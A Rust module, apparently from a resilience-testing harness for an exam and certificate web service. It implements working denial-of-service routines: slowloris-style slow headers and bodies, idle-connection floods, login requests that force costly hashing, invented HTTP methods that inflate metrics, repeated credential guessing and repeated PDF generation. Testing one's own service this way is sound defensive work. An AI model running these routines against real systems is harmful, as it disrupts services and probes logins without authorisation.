//! Attacks over plain HTTP. None but the last needs a login.

use super::target::AttackTarget;
use std::time::{Duration, Instant};
use uuid::Uuid;

const LOGINS: [&str; 3] = [
    "/api/candidate/login",
    "/api/invigilator/login",
    "/api/referent/login",
];

/// A request that is only there to be expensive: an unknown e-mail address costs a hash.
fn unknown_account() -> String {
    format!(
        r#"{{"email":"{}@example.org","password":"x"}}"#,
        Uuid::new_v4()
    )
}

/// Each hash is begun and nobody waits for it.
pub(super) async fn hang_ups(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(64, 8);
    let attempts = target.repeat(tasks, end, |target, _| async move {
        let mut connection = target.connect().await?;
        connection
            .post("/api/referent/login", &unknown_account())
            .await?;
        tokio::time::sleep(Duration::from_millis(10)).await;
        Ok(())
    });
    attempts.await.to_string()
}

/// Every method would be a label of a metric.
pub(super) async fn invented_methods(target: &AttackTarget, end: Instant) -> String {
    let (tasks, methods) = (4, target.size(10_000, 500) as u64 / 4);
    let attempts = target.repeat(tasks, end, move |target, number| async move {
        let mut connection = target.connect().await?;
        for method in 0..methods {
            let method = format!("M{number:X}N{method:X}");
            connection.request(&method, "/", None, None).await?;
        }
        Ok(())
    });
    format!("{} of {methods} methods each", attempts.await)
}

/// Connections that are kept open by one byte a second.
pub(super) async fn slow_heads(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(500, 50);
    let attempts = target.repeat(tasks, end, |target, _| async move {
        let mut connection = target.connect().await?;
        let head = connection.head("GET", "/", &[]);
        for byte in head.as_bytes().iter().cycle() {
            connection.write(&[*byte]).await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    });
    attempts.await.to_string()
}

/// The same, in the middle of a body that would be long.
pub(super) async fn slow_bodies(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(500, 50);
    let attempts = target.repeat(tasks, end, |target, number| async move {
        let mut connection = target.connect().await?;
        let portal = LOGINS[number as usize % LOGINS.len()];
        let headers = [
            "Content-Type: application/json".to_owned(),
            "Content-Length: 10000".to_owned(),
        ];
        let head = connection.head("POST", portal, &headers);
        connection.write(format!("{head}\r\n").as_bytes()).await?;
        for _ in 0..10_000 {
            connection.write(b" ").await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    });
    attempts.await.to_string()
}

/// Connections that say nothing. Closed ones are opened again.
pub(super) async fn idle_connections(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(20_000, 500);
    let attempts = target.repeat(tasks, end, |target, _| async move {
        let mut connection = target.connect().await?;
        connection.closed().await;
        Ok(())
    });
    attempts.await.to_string()
}

/// Guesses at every portal, for people whose names are known, and for certificates.
pub(super) async fn wrong_credentials(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(16, 4);
    let attempts = target.repeat(tasks, end, |target, number| async move {
        let mut connection = target.connect().await?;
        let mut candidate = target.session.candidate(target.classmate);
        candidate.access_code = "WRONGS".into();
        let mut invigilator = target.session.invigilator(number as u16 % 60);
        invigilator.password = "WRONGS".into();
        let referent = format!(
            r#"{{"email":"{}","password":"wrong"}}"#,
            target.account.email
        );
        let code = format!(r#"{{"code":"P-{number:0>8}"}}"#);
        let requests = [
            (LOGINS[0], serde_json::to_string(&candidate)?),
            (LOGINS[1], serde_json::to_string(&invigilator)?),
            (LOGINS[2], referent),
            ("/api/certificates/verify", code),
        ];
        for (path, body) in requests {
            connection.request("POST", path, None, Some(&body)).await?;
        }
        Ok(())
    });
    attempts.await.to_string()
}

/// All the attendance sheets of a session at once, again and again.
pub(super) async fn many_documents(target: &AttackTarget, end: Instant) -> String {
    let tasks = target.size(1_000, 20);
    let attempts = target.repeat(tasks, end, |target, _| async move {
        let mut connection = target.connect().await?;
        let path = format!("/api/sessions/{}/attendance.pdf", target.session.id());
        let cookie = Some(target.referent.cookie());
        connection.request("GET", &path, cookie, None).await?;
        Ok(())
    });
    attempts.await.to_string()
}
